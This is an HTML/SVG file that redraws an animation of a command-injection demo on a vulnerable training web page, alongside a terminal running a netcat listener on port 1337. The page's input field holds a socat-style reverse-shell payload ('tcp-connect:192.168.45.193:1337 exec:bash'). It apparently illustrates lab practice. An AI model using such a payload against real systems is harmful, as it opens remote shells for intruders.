
These frames come from a looping animation (1063x455 px, 8000 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal over web form</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #f3f3f3; }
svg { display: block; width: 1063px; height: 455px; }
.page { font: 17px "Liberation Sans", Arial, sans-serif; fill: #2d2f30; }
.page .h1 { font-size: 34px; font-weight: bold; }
.page .h2 { font-size: 27.2px; font-weight: bold; }
.page .link { font-weight: bold; fill: #9acd32; text-decoration: underline; }
.page .control { fill: #000; }
.menu { font: 14.67px "Noto Sans", sans-serif; fill: #fff; }
.title { font: bold 11.2px "Noto Sans", sans-serif; fill: #fff; text-anchor: middle; }
.shell { font: 20px "Noto Sans Mono", monospace; fill: #f4f4f4; }
.shell .green { fill: #25cf20; }
.shell .blue { fill: #49aee6; }
.shell .teal { fill: #3fbfa5; }
.frame { filter: drop-shadow(0 1px 5px rgba(0, 0, 0, .45)); }

/* Everything shares one 8 s clock: 1% is 80 ms. */
.anim { animation: 8s step-end infinite; }
.terminal { animation-name: terminal; }
.waiting { animation-name: waiting; }
.running { animation-name: running; }
.minimise { animation-name: minimise; }
.focus { animation-name: focus; }
.caret { animation-name: caret; }
.submit { animation-name: submit; }
.pointer { animation-name: path; }
.arrow { animation-name: arrow; }
.beam { animation-name: beam; }

@keyframes terminal { 0% { opacity: 1 } 42.125%, 100% { opacity: 0 } }
@keyframes waiting { 0% { opacity: 1 } 20.375%, 100% { opacity: 0 } }
@keyframes running { 0% { opacity: 0 } 20.375%, 100% { opacity: 1 } }
@keyframes minimise { 0% { fill: #393c48 } 36.125%, 100% { fill: #4c4f59 } }
@keyframes focus { 0% { opacity: 0 } 56.25% { opacity: 1 } 91.75%, 100% { opacity: 0 } }
@keyframes caret {
  0% { transform: translate(493px, 79px) }
  70.9%, 100% { transform: translate(525px, 79px) }
}
@keyframes submit {
  0% { fill: #e9e9ed; stroke: #8f8f9d }
  51.25% { fill: #d0d0d7; stroke: #676774 }
  54.19% { fill: #e9e9ed; stroke: #8f8f9d }
  82.75% { fill: #d0d0d7; stroke: #676774 }
  91.75% { fill: #b1b1b9; stroke: #484851 }
  92.75%, 100% { fill: #d0d0d7; stroke: #676774 }
}
@keyframes path {
  0% { transform: translate(877px, 410px); opacity: 0 }
  3% { transform: translate(877px, 410px); opacity: 1; animation-timing-function: steps(4) }
  6.25% { transform: translate(444px, 228px); opacity: 1 }
  8.125% { transform: translate(440px, 215px); animation-timing-function: steps(3) }
  10.5% { transform: translate(431px, 179px) }
  21.625% { transform: translate(431px, 184px) }
  22.875% { transform: translate(431px, 189px) }
  26.25% { transform: translate(438px, 187px); animation-timing-function: steps(3) }
  28.95% { transform: translate(540px, 160px); animation-timing-function: steps(3) }
  31.65% { transform: translate(850px, 60px); animation-timing-function: steps(3) }
  34.35% { transform: translate(1000px, 15px); animation-timing-function: steps(2) }
  36.125% { transform: translate(995px, 27px) }
  37% { transform: translate(992px, 31px) }
  42.125% { transform: translate(972px, 31px); animation-timing-function: steps(5) }
  46.275% { transform: translate(800px, 52px); animation-timing-function: steps(6) }
  51.25% { transform: translate(612px, 86px) }
  52.125% { transform: translate(585px, 88px); animation-timing-function: steps(4) }
  56.25% { transform: translate(493px, 92px) }
  58% { transform: translate(500px, 93px); animation-timing-function: steps(2) }
  59.75% { transform: translate(532px, 95px); animation-timing-function: steps(5) }
  64.625% { transform: translate(560px, 101px) }
  67% { transform: translate(566px, 106px) }
  67.975% { transform: translate(573px, 109px); animation-timing-function: steps(3) }
  70.9% { transform: translate(526px, 91px) }
  72.875% { transform: translate(522px, 90px) }
  74.625% { transform: translate(574px, 108px) }
  79.5% { transform: translate(577px, 106px); animation-timing-function: steps(4) }
  82.75% { transform: translate(588px, 101px) }
  87% { transform: translate(590px, 97px); animation-timing-function: steps(2) }
  88.5%, 100% { transform: translate(595px, 86px); opacity: 1 }
}
@keyframes arrow {
  0%, 54.19%, 69.94% { opacity: 0 }
  31.65%, 64.625%, 74.625%, 100% { opacity: 1 }
}
@keyframes beam {
  0%, 54.19%, 69.94% { opacity: 1 }
  31.65%, 64.625%, 74.625%, 100% { opacity: 0 }
}
</style>
</head>
<body>
<svg viewBox="0 0 1063 455">
  <defs>
    <linearGradient id="side"><stop stop-color="#e7e7e7"/><stop offset="1" stop-color="#e2e2e2"/></linearGradient>
    <clipPath id="field"><rect x="237" y="78" width="316" height="23"/></clipPath>
  </defs>

  <g class="page">
    <rect width="924" height="455" fill="#f3f3f3"/>
    <rect x="924" width="139" height="455" fill="url(#side)"/>
    <text class="h1" x="46" y="-2">Vulnerability: Command Injection</text>
    <rect x="46.5" y="20.5" width="851" height="112" fill="#f8fafa" stroke="#000"/>
    <text class="h2" x="73" y="53">Ping a device</text>
    <text x="73" y="93">Enter an IP address:</text>

    <rect x="233.5" y="76.5" width="322" height="25" rx="2" fill="#fff" stroke="#8f8f9d"/>
    <g class="anim focus">
      <rect x="230" y="73" width="329" height="32" rx="5" fill="#c3dcf6"/>
      <rect x="233" y="76" width="323" height="26" rx="3" fill="#fff" stroke="#2f7fd6" stroke-width="2"/>
      <rect class="anim caret" x="-1" width="2" height="20" fill="#000"/>
    </g>
    <g clip-path="url(#field)">
      <text class="control" x="551.5" y="95" text-anchor="end">tcp-connect:192.168.45.193:1337 exec:bash</text>
    </g>
    <rect class="anim submit" x="561.5" y="76.5" width="66" height="25" rx="4.5"/>
    <text class="control" x="594.5" y="95" text-anchor="middle">Submit</text>

    <text class="h2" x="46" y="179">More Information</text>
    <path d="M87 213h0m0 20h0m0 20h0m0 20h0" stroke="#2d2f30" stroke-width="6" stroke-linecap="round"/>
    <text class="link" x="98" y="218">http://www.scribd.com/doc/2530476/Php-Endangers-Remote-Code-Execution</text>
    <text class="link" x="98" y="238">http://www.ss64.com/bash/</text>
    <text class="link" x="98" y="258">http://www.ss64.com/nt/</text>
    <text class="link" x="98" y="278">https://www.owasp.org/index.php/Command_Injection</text>
  </g>

  <g class="anim terminal">
    <g class="frame">
      <path d="M12 470V24q0-8 8-8H1049q8 0 8 8V470H1051V71H17V470z" fill="#1e212c" fill-opacity=".94"/>
      <path d="M17 71H1051V470H17z" fill="#303437" fill-opacity=".94"/>
    </g>
    <path d="M1045 455V75q0-3 3-3t3 3V455z" fill="#616365"/>
    <path d="M12.5 455V24q0-7.500 7.500-7.500H1049q7.500 0 7.500 7.500V455" fill="none" stroke="#1d1f28"/>

    <rect x="23.500" y="25.500" width="15" height="13" rx="1.500" fill="#17181c" stroke="#b4b6ba"/>
    <path d="M26 28.500l2 1.500-2 1.500M29 32.500h3" fill="none" stroke="#ddd"/>
    <text class="title" x="513.5" y="36">bilo@bilo: ~</text>
    <g stroke="#15171e">
      <circle class="anim minimise" cx="993" cy="32" r="8.5"/>
      <circle cx="1017" cy="32" r="8.5" fill="#393c48"/>
      <circle cx="1041" cy="32" r="9" fill="#2f74e0"/>
    </g>
    <path d="M1038 29l6 6m0-6l-6 6" stroke="#fff" stroke-width="1.8"/>

    <g class="menu">
      <text x="26" y="64">File</text>
      <text x="66" y="64">Actions</text>
      <text x="130" y="64">Edit</text>
      <text x="171.500" y="64">View</text>
      <text x="218" y="64">Help</text>
    </g>

    <g class="shell">
      <path d="M58 111.500H28V135.500H46" fill="none" stroke="#25cf20" stroke-width="1.700"/>
      <text class="green" x="58" y="118">(</text>
      <text class="blue" x="70" y="118">bilo</text>
      <circle cx="126.5" cy="112" r="7.2" fill="none" stroke="#49aee6" stroke-width="1.3"/>
      <text class="blue" x="126.5" y="115.500" font-size="10" font-weight="bold" text-anchor="middle" style="font-size:10px">B</text>
      <text class="blue" x="142" y="118">bilo</text>
      <text class="green" x="190" y="118">)-[</text>
      <text x="226" y="118" font-weight="bold">~</text>
      <text class="green" x="238" y="118">]</text>
      <text class="blue" x="46" y="142">$</text>
      <text class="teal" x="70" y="142">nc</text>
      <text class="green" x="106" y="142">-nlvp</text>
      <text x="178" y="142">1337</text>
      <rect class="anim waiting" x="226" y="124" width="12" height="23"/>
      <g class="anim running">
        <text x="22" y="166">listening on [any] 1337</text>
        <text x="313" y="166" letter-spacing="-3">...</text>
        <rect x="22" y="172" width="12" height="23"/>
      </g>
    </g>
  </g>

  <g class="anim pointer">
    <path class="anim arrow" d="M.5 .5V15.500L4 12.300 6.300 17.500 8.700 16.500 6.500 11.300H11z" fill="#0a0a0a" stroke="#fff"/>
    <g class="anim beam" fill="none">
      <path d="M-3.500-8H3.500M0-8V8M-3.500 8H3.500" stroke="#fff" stroke-width="3"/>
      <path d="M-3-8H3M0-8V8M-3 8H3" stroke="#111" stroke-width="1.200"/>
    </g>
  </g>
</svg>
</body>
</html>
```
